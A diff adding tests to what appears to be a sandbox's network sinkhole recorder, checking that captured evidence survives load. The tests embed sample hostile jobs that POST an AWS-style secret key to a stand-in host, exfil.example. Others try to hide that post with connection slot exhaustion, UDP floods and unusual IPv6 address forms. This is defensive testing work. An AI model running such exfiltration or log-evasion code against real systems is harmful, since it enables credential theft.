@@ -20,7 +20,7 @@ import pytest
 from conftest import ROOT, detain_cli, require, run
 from detain.errors import DetainError
 from detain.net import protocols
-from detain.net.sinkhole import NameTable
+from detain.net.sinkhole import KERNEL_DROPS, NameTable
 from detain.policy import Policy
 
 needs_root = pytest.mark.skipif(not ROOT, reason="the sinkhole needs root")
@@ -42,7 +42,9 @@ def client_hello(server_name: str) -> bytes:
 
 
 def sinkhole_events(result) -> list[dict]:
-    return [e for e in result.behaviour["events"] if e["event"].startswith("sinkhole.")]
+    """The recorder's records (not its one `sinkhole.lost` count)."""
+    return [e for e in result.behaviour["events"] if e["event"].startswith("sinkhole.")
+            and e["event"] != "sinkhole.lost"]
 
 
 # --- parsers: hostile bytes in, capped and escaped text out --------------------------
@@ -267,3 +269,172 @@ def test_package_vetting_defaults_to_the_sinkhole(tmp_path):
     assert "would have POSTed 9 bytes containing `password` to collector.exfil.invalid:80" \
         in post["summary"]
     assert post["file"].endswith("phoner/__init__.py") and post["line"] == 2
+
+
+# --- the recorder under load: nothing hidden, whatever is lost counted ---------------------
+
+KEY_POST = (b"POST /k HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: 42\r\n\r\n"
+            b"AWS_SECRET_ACCESS_KEY=AKIAABCDEFGHIJKLMNOP")
+
+TRICKLE = f"""
+import socket, threading, time
+stop = time.monotonic() + 2.5
+def trickle(i):  # holds a connection, one byte every 0.2 s; reconnects when cut
+    while time.monotonic() < stop:
+        try:
+            s = socket.create_connection((f"10.7.7.{{i}}", 80), timeout=3)
+            while time.monotonic() < stop:
+                s.send(b"x"); time.sleep(0.2)
+        except OSError:
+            pass
+threads = [threading.Thread(target=trickle, args=(i,)) for i in range(1, 25)]
+for t in threads: t.start()
+time.sleep(0.8)
+s = socket.create_connection(("203.0.113.1", 443), timeout=10)
+s.sendall({KEY_POST!r})
+print("answer", s.recv(100))
+for t in threads: t.join()
+"""
+
+
+def sinkhole_run(code: str):
+    """A bwrap run of `code` in the sinkhole, which must succeed."""
+    require("bwrap")
+    result = run("bwrap", code, network="sinkhole", timeout=30)
+    assert result.exit_code == 0, result.stderr
+    return result
+
+
+def the_post(events: list[dict], address: str) -> dict:
+    return next(e for e in events if e["event"] == "sinkhole.tcp"
+                and e["detail"]["address"] == address)
+
+
+def assert_key_post(post: dict) -> None:
+    assert post["detail"]["http"]["path"] == "/k"
+    assert post["detail"]["http"]["host"] == "exfil.example"
+    assert post["detail"]["secrets"] == ["AWS_SECRET_ACCESS_KEY", "AKIAABCDEFGHIJKLMNOP"]
+    assert not post["detail"]["note"]
+
+
+@needs_root
+def test_connections_holding_every_slot_cannot_hide_a_post(monkeypatch):
+    from detain.net import sinkhole_conns
+    from detain.report.verdict import verdict
+
+    monkeypatch.setattr(sinkhole_conns, "MAX_OPEN", 8)  # 24 tricklers for 8 places
+    result = sinkhole_run(TRICKLE)
+    assert b"answer b'HTTP/1.1 200 OK" in result.stdout
+    events = sinkhole_events(result)
+    post = the_post(events, "203.0.113.1")
+    assert_key_post(post)
+    assert post["file"] and post["line"]  # the job's connect lends its place
+    cut = [e for e in events if "cut short" in (e["detail"]["note"] or "")]
+    seen = result.behaviour["sinkhole"]
+    assert cut and seen["lost"][sinkhole_conns.CUT] == len(cut) == seen["dropped"]
+    assert cut[0]["detail"]["first_bytes"].startswith("x")  # what it sent is still shown
+    lost = next(e for e in result.behaviour["events"] if e["event"] == "sinkhole.lost")
+    assert any("cut short" in note for note in result.notes)
+    assert verdict([lost])["level"] == "suspicious"
+
+
+FLOOD = f"""
+import socket
+u = socket.socket(type=socket.SOCK_DGRAM)
+for _ in range(12_000):
+    u.sendto(b"x", ("10.9.9.9", 9))
+s = socket.create_connection(("203.0.113.7", 443), timeout=10)
+s.sendall({KEY_POST!r})
+print("answer", s.recv(100))
+"""
+
+
+@needs_root
+def test_a_flood_of_noise_cannot_push_the_evidence_out():
+    from detain.net import sinkhole_log
+
+    result = sinkhole_run(FLOOD)
+    events = sinkhole_events(result)
+    assert_key_post(the_post(events, "203.0.113.7"))
+    seen = result.behaviour["sinkhole"]
+    kept_udp = [e for e in events if e["event"] == "sinkhole.udp"]
+    assert len(kept_udp) == sinkhole_log.DESTINATION_CAP  # per destination
+    beyond = seen["lost"][sinkhole_log.BEYOND.format("udp")]
+    kernel = seen["lost"].get(KERNEL_DROPS, 0)
+    assert seen["udp_datagrams"] == len(kept_udp) + beyond  # seen: kept or counted
+    assert seen["udp_datagrams"] + kernel == 12_000  # and the kernel's drops make the rest
+    assert seen["dropped"] == beyond + kernel
+
+
+NAMES_AND_BURST = """
+import socket
+for i in range(8):
+    print("name", i, socket.getaddrinfo(f"n{i}.example", 80, socket.AF_INET)[0][4][0])
+u = socket.socket(type=socket.SOCK_DGRAM)
+for i in range(3000):
+    u.sendto(b"burst", ("10.8.8.%d" % (i % 200 + 1), 7))
+"""
+
+
+@needs_root
+def test_names_past_the_table_are_answered_and_kernel_drops_counted(monkeypatch):
+    from detain.net import sinkhole
+
+    monkeypatch.setattr(sinkhole, "MAX_NAMES", 5)
+    monkeypatch.setattr(sinkhole, "UDP_BUFFER", 4096)  # a queue the burst must overflow
+    result = sinkhole_run(NAMES_AND_BURST)
+    answers = [line.split()[2] for line in result.stdout.decode().splitlines()]
+    assert answers[:5] == [f"10.66.0.{i}" for i in range(1, 6)]
+    assert answers[5:] == ["10.66.255.254"] * 3  # still answered, by the shared address
+    seen = result.behaviour["sinkhole"]
+    assert seen["overflow_answers"] == 3 and any("10.66.255.254" in n for n in result.notes)
+    drops = seen["lost"][KERNEL_DROPS]
+    assert drops > 0 and seen["udp_datagrams"] + drops == 3000
+    assert seen["dropped"] == drops
+
+
+ODD_ADDRESSES = """
+import socket
+mapped = socket.socket(socket.AF_INET6)
+mapped.settimeout(5)
+mapped.connect(("::ffff:127.0.0.1", 8081)); mapped.sendall(b"mapped")
+scoped = socket.create_connection(("fe80::1%lo", 8082), timeout=5); scoped.sendall(b"scoped")
+print("ok")
+"""
+
+
+@needs_root
+def test_mapped_and_link_local_destinations_are_attributed():
+    result = sinkhole_run(ODD_ADDRESSES)
+    events = sinkhole_events(result)
+    mapped = next(e for e in events if e["detail"]["port"] == 8081)
+    scoped = next(e for e in events if e["detail"]["port"] == 8082)
+    assert mapped["detail"]["address"] == "127.0.0.1" and scoped["detail"]["address"] == "fe80::1"
+    assert (mapped["line"], scoped["line"]) == (5, 6), (mapped, scoped)
+    assert mapped["file"] and mapped["file"] == scoped["file"]
+
+
+def test_record_log_caps_noise_per_kind_and_place_and_keeps_evidence():
+    from detain.net import sinkhole_log
+
+    log = sinkhole_log.RecordLog()
+    noise = {"kind": "tcp", "address": "10.1.0.1", "port": 80, "secrets": [], "http": None}
+    for i in range(sinkhole_log.KIND_CAP + 500):  # many places, each under its own cap
+        log.add({**noise, "address": f"10.1.{i // 250}.{i % 250}"})
+    for _ in range(sinkhole_log.DESTINATION_CAP + 5):
+        log.add({**noise, "kind": "udp"})
+    log.add({**noise, "secrets": ["token"]})
+    kept = log.snapshot()
+    assert sum(r["kind"] == "tcp" for r in kept) == sinkhole_log.KIND_CAP + 1
+    assert sum(r["kind"] == "udp" for r in kept) == sinkhole_log.DESTINATION_CAP
+    assert kept[-1]["secrets"] == ["token"] and log.seen["tcp"] == sinkhole_log.KIND_CAP + 501
+    assert log.lost == {sinkhole_log.BEYOND.format("tcp"): 500,
+                        sinkhole_log.BEYOND.format("udp"): 5}
+
+
+def test_canonical_addresses():
+    from detain.net.sinkhole_events import canonical
+
+    assert canonical("::ffff:127.0.0.1") == "127.0.0.1"
+    assert canonical("FE80:0::1%eth0") == "fe80::1"
+    assert canonical("exfil.example") == "exfil.example"
